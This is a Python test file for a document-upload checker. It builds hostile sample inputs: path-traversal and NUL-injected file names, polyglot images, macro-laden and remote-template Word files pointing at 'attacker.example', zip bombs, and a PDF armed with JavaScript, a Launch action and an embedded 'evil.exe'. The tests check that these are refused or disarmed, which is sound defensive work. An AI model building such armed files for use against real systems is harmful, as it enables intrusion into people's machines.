"""Uploads are checked and disarmed before anything is stored (blueprints/documents/files.py).

Each bad file of the issue is refused with a message and the right status; each good one comes
out rebuilt: PDFs without active content (and written anew, not incrementally), images re-encoded
without EXIF or GPS, HEIC as JPEG, text as UTF-8, names normalised.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from blueprints.documents import checks
from blueprints.documents.files import ALLOWED, FileRefused, check_upload
from tests.fixtures_documents import docx_bytes, jpeg_bytes, pdf_bytes, png_bytes
from tests.test_branding import png_header_only

LIMIT = 25 * 1024 * 1024


def refused(data: bytes, name: str, status: int | None = None, **kwargs) -> str:
    with pytest.raises(FileRefused) as caught:
        check_upload(data, name, max_bytes=kwargs.get("max_bytes", LIMIT))
    if status is not None:
        assert caught.value.status == status, caught.value.message
    assert caught.value.problems == {"file": caught.value.message}
    return caught.value.message


# ---------------------------------------------------------------------------------------------
# Good files
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make", "content_type"),
    [
        ("Letter.pdf", pdf_bytes, "application/pdf"),
        ("scan.PNG", png_bytes, "image/png"),
        ("photo.jpg", jpeg_bytes, "image/jpeg"),
        ("photo.jpeg", jpeg_bytes, "image/jpeg"),
        ("intake form.docx", docx_bytes, ALLOWED["docx"]),
        ("notes.txt", lambda: "Café notes\n".encode(), "text/plain; charset=utf-8"),
    ],
)
def test_each_allowed_kind_is_accepted(name, make, content_type):
    clean = check_upload(make(), name, max_bytes=LIMIT)
    assert clean.content_type == content_type
    assert clean.name == name[: name.rindex(".")] + name[name.rindex(".") :].lower()
    assert clean.size == len(clean.data) > 0 and len(clean.sha256) == 64


def test_text_in_other_encodings_is_stored_as_utf8():
    assert check_upload("Café".encode("cp1252"), "a.txt", max_bytes=LIMIT).data == "Café".encode()
    assert check_upload("Café\n".encode("utf-16"), "a.txt", max_bytes=LIMIT).data == "Café\n".encode()
    assert check_upload(b"\xef\xbb\xbfhi", "a.txt", max_bytes=LIMIT).data == b"hi"


# ---------------------------------------------------------------------------------------------
# Names
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\sam\\Desktop\\report.pdf", "report.pdf"),
        ("re\x07po\x1brt\r\n.pdf", "report.pdf"),
        ("invoice.exe.pdf", "invoice-exe.pdf"),
        ("a..b...pdf", "a-b.pdf"),
        ("photo\u202egpj.pdf", "photogpj.pdf"),  # a right-to-left override would show "fdp.jpg"
        ("CON.pdf", "CON-file.pdf"),
        ('what<>:"|?*.pdf', "what.pdf"),
        ("a<b>c.pdf", "a_b_c.pdf"),
        (".pdf", "document.pdf"),
        ("   .pdf", "document.pdf"),
        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
    ],
)
def test_names_are_normalised(sent, kept):
    assert check_upload(pdf_bytes(), sent, max_bytes=LIMIT).name == kept


@pytest.mark.parametrize("name", ["report%00.pdf", "report.pdf\x00.exe", "a%00b.pdf"])
def test_names_with_nul_are_refused(name):
    assert "file name is not allowed" in refused(pdf_bytes(), name, 400)


@pytest.mark.parametrize("name", ["report.pdf.exe", "page.html", "drawing.svg", "x.js", "noextension", "x."])
def test_kinds_outside_the_allow_list_are_refused(name):
    assert "Only PDF, PNG, JPEG, HEIC" in refused(pdf_bytes(), name, 415)


# ---------------------------------------------------------------------------------------------
# Content that is not what the name says, or not allowed at all
# ---------------------------------------------------------------------------------------------


def test_empty_and_oversized_files_are_refused():
    assert refused(b"", "empty.pdf", 400) == "The file is empty."
    assert "larger than the 1 MB limit" in refused(
        b"x" * (1024 * 1024 + 1), "big.txt", 413, max_bytes=1 << 20
    )


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (png_bytes(), "scan.pdf"),
        (pdf_bytes(), "photo.png"),
        (jpeg_bytes(), "photo.png"),
        (png_bytes(), "photo.jpg"),
        (b"plain words", "letter.pdf"),
        (b"plain words", "letter.docx"),
        (pdf_bytes(), "notes.txt"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "notes.txt"),
        (jpeg_bytes(), "photo.heic"),
    ],
)
def test_content_that_does_not_match_the_name_is_refused(data, name):
    message = refused(data, name, 415)
    assert "does not match" in message or "binary data" in message


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "page.txt"),
        (b"<html><script>alert(1)</script></html>", "page.pdf"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "pic.png"),
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "pic.txt"),
        (b'<?xml version="1.0"?><note>x</note>', "note.txt"),
    ],
)
def test_html_svg_and_xml_are_refused_whatever_their_name(data, name):
    assert "Web pages, SVG and XML" in refused(data, name, 415)


def test_binary_data_named_txt_is_refused():
    assert "binary data" in refused(b"abc\x00\x01\x02def", "notes.txt", 415)


def _png_with_text(text: bytes) -> bytes:
    data = png_bytes()
    chunk_data = b"Comment\x00" + text
    chunk = struct.pack(">I", len(chunk_data)) + b"tEXt" + chunk_data
    chunk += struct.pack(">I", zlib.crc32(b"tEXt" + chunk_data))
    return data[:33] + chunk + data[33:]  # right after the IHDR chunk


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (pdf_bytes() + docx_bytes(), "letter.pdf"),  # a PDF that is also a zip
        (jpeg_bytes() + docx_bytes(), "photo.jpg"),  # a JPEG that is also a zip (GIFAR-style)
        (png_bytes() + docx_bytes(), "scan.png"),
        (_png_with_text(b"%PDF-1.4 1 0 obj"), "scan.png"),  # an image that PDF readers open
        (b"Dear team, %PDF-1.7 ...", "notes.txt"),
        (_png_with_text(b"<html><script>alert(1)</script>"), "scan.png"),  # an image with a page in it
    ],
)
def test_polyglots_are_refused(data, name):
    message = refused(data, name)
    assert "two kinds of file" in message or "Web pages" in message or "does not match" in message


# ---------------------------------------------------------------------------------------------
# Word documents: macros and zip bombs
# ---------------------------------------------------------------------------------------------


def test_macro_enabled_documents_are_refused():
    assert "macros" in refused(docx_bytes(), "form.docm", 415)
    assert "macros" in refused(docx_bytes({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "form.docx", 400)
    assert "macros" in refused(docx_bytes({"word/activeX/activeX1.bin": b"x"}), "form.docx", 400)
    macro_types = (
        b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/'
        b'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    assert "macros" in refused(docx_bytes(content_types=macro_types), "form.docx", 400)


def _rels(*relationships: str) -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships">' + "".join(relationships) + "</Relationships>"
    ).encode()


def test_word_documents_that_fetch_templates_or_objects_from_elsewhere_are_refused():
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    link = (
        f'<Relationship Id="rId1" Type="{kinds}hyperlink" Target="https://a.example" TargetMode="External" />'
    )
    check_upload(docx_bytes({"word/_rels/document.xml.rels": _rels(link)}), "ok.docx", max_bytes=LIMIT)
    for kind, target in [
        ("oleObject", "http://attacker.example/x.html!"),
        ("attachedTemplate", "http://a.example/t.dotm"),
    ]:
        remote = f'<Relationship Id="rId9" Type="{kinds}{kind}" Target="{target}" TargetMode="External"/>'
        rels = {"word/_rels/document.xml.rels": _rels(link, remote)}
        assert "from elsewhere" in refused(docx_bytes(rels), "form.docx", 400)
    # Padding cannot hide the tell-tale word across a read boundary (1 MiB): it straddles one here.
    filler = os.urandom((1024 * 1024 - 5 - len(b"<Types>")) // 2).hex().encode()  # compresses ~2:1
    padded_types = b"<Types>" + filler + b"macroEnabled</Types>"
    assert "macros" in refused(docx_bytes(content_types=padded_types), "form.docx", 400)


def test_a_zip_that_is_not_a_word_document_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert "not a Word" in refused(out.getvalue(), "form.docx", 415)
    assert "damaged" in refused(docx_bytes()[:-30], "form.docx", 400)


def test_zip_bombs_are_refused():
    bomb = docx_bytes({"word/media/blank.bin": bytes(60 * 1024 * 1024)})  # 60 MB of zeros, ~60 KB zipped
    assert len(bomb) < 200_000
    assert "zip bomb" in refused(bomb, "form.docx", 400)


def test_the_total_size_of_a_word_document_is_capped(monkeypatch):
    document = docx_bytes({"word/media/noise.bin": os.urandom(300_000)})  # does not compress: ratio ~1
    check_upload(document, "form.docx", max_bytes=LIMIT)
    monkeypatch.setattr(checks, "DOCX_MAX_UNCOMPRESSED", 200_000)
    assert "zip bomb" in refused(document, "form.docx", 400)


# ---------------------------------------------------------------------------------------------
# PDFs: active content removed, written anew
# ---------------------------------------------------------------------------------------------


def _armed_pdf() -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes("Armed")))
    js = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('open')"))
    )
    pdf.Root.OpenAction = js
    pdf.Root.AA = pikepdf.Dictionary(
        WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('close')")
    )
    embedded = pikepdf.Stream(pdf, b"EMBEDDED-PAYLOAD")
    embedded.Type = pikepdf.Name.EmbeddedFile
    filespec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="evil.exe", EF=pikepdf.Dictionary(F=embedded))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=["init", js]),
        EmbeddedFiles=pikepdf.Dictionary(Names=["evil.exe", filespec]),
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pikepdf.Stream(pdf, b"<xdp>XFA-PAYLOAD</xdp>"))
    page = pdf.pages[0]
    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('page')"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    page.obj.Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch
            ),
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=filespec
            ),
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 9, 9],
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:alert(1)"),
            ),
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 9, 9],
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.com/worksheet"),
            ),
        ]
    )
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return out.getvalue()


def test_pdf_active_content_is_removed():
    armed = _armed_pdf()
    payloads = [b"app.alert", b"EMBEDDED-PAYLOAD", b"XFA-PAYLOAD", b"calc.exe", b"javascript:alert"]
    assert all(payload in armed for payload in payloads)
    clean = check_upload(armed, "armed.pdf", max_bytes=LIMIT)
    for payload in payloads:
        assert payload not in clean.data, payload
    with pikepdf.open(io.BytesIO(clean.data)) as pdf:
        for key in ("/OpenAction", "/AA"):
            assert key not in pdf.Root
        assert "/JavaScript" not in pdf.Root.Names and "/EmbeddedFiles" not in pdf.Root.Names
        assert "/XFA" not in pdf.Root.AcroForm
        annotations = pdf.pages[0].obj.Annots
        # The FileAttachment is gone, the Launch and javascript: actions are gone, the web link stays.
        assert [str(a.Subtype) for a in annotations] == ["/Link", "/Link", "/Link"]
        assert [str(a.A.URI) for a in annotations if "/A" in a] == ["https://example.com/worksheet"]
        assert len(pdf.pages) == 1 and b"Armed" in pdf.pages[0].Contents.read_bytes()


def _two_revision_pdf() -> bytes:
    """A PDF whose first revision opens with JavaScript and whose incremental update hides it: the
    old object is still in the file, which a disarm by appending would keep."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        b"<< /S /JavaScript /JS (app.alert\\('first revision'\\)) >>",
    ]
    body = b"%PDF-1.7\n"
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = len(body)
    body += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    body += b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
    update = len(body)
    body += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    second_xref = len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % update
    body += b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (xref, second_xref)
    return body


def test_pdfs_are_written_anew_not_incrementally():
    original = _two_revision_pdf()
    assert original.count(b"%%EOF") == 2 and b"first revision" in original
    clean = check_upload(original, "revised.pdf", max_bytes=LIMIT).data
    assert clean.count(b"%%EOF") == 1 and b"/Prev" not in clean
    assert b"first revision" not in clean


def test_damaged_and_password_protected_pdfs_are_refused():
    assert "damaged" in refused(b"%PDF-1.7\nthis is not really a PDF", "x.pdf", 400)
    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        pdf.save(locked, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    assert "Password-protected" in refused(locked.getvalue(), "locked.pdf", 400)
    # Owner-password-only PDFs (opening is unrestricted) come out without encryption.
    restricted = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes("Restricted"))) as pdf:
        pdf.save(restricted, encryption=pikepdf.Encryption(user="", owner="owner"))
    clean = check_upload(restricted.getvalue(), "restricted.pdf", max_bytes=LIMIT).data
    with pikepdf.open(io.BytesIO(clean)) as pdf:
        assert not pdf.is_encrypted


# ---------------------------------------------------------------------------------------------
# Images: re-encoded, metadata dropped, pixel cap
# ---------------------------------------------------------------------------------------------


def _camera_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: the camera was turned; the pixels need a 90° turn
    exif[0x010F] = "PorticoCam"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (51.0, 30.0, 12.5), "W", (0.0, 7.0, 39.0)
    return exif


@pytest.mark.parametrize("kind", ["jpg", "png", "heic"])
def test_images_lose_exif_and_gps_and_are_turned_upright(kind):
    from pillow_heif import register_heif_opener

    register_heif_opener()
    out = io.BytesIO()
    format_ = {"jpg": "JPEG", "png": "PNG", "heic": "HEIF"}[kind]
    Image.new("RGB", (40, 30), (10, 200, 30)).save(out, format_, exif=_camera_exif().tobytes())
    assert b"PorticoCam" in out.getvalue() or kind == "heic"
    clean = check_upload(out.getvalue(), f"photo.{kind}", max_bytes=LIMIT)
    assert b"PorticoCam" not in clean.data and b"Exif" not in clean.data
    with Image.open(io.BytesIO(clean.data)) as image:
        assert image.size == (30, 40)  # turned upright before the orientation tag was dropped
        assert not image.getexif() and "exif" not in image.info
        assert image.format == ("PNG" if kind == "png" else "JPEG")
    if kind == "heic":
        assert clean.name == "photo.jpg" and clean.content_type == "image/jpeg"


@pytest.mark.parametrize("size", [(10_000, 10_000), (100_000, 100_000)])
def test_images_over_the_pixel_cap_are_refused_before_decoding(size):
    bomb = png_header_only(*size)
    assert len(bomb) < 200
    assert "too large" in refused(bomb, "bomb.png", 400)


def test_damaged_images_are_refused():
    assert "damaged" in refused(png_bytes()[:60], "cut.png", 400)
    assert "damaged" in refused(jpeg_bytes()[:40], "cut.jpg", 400)
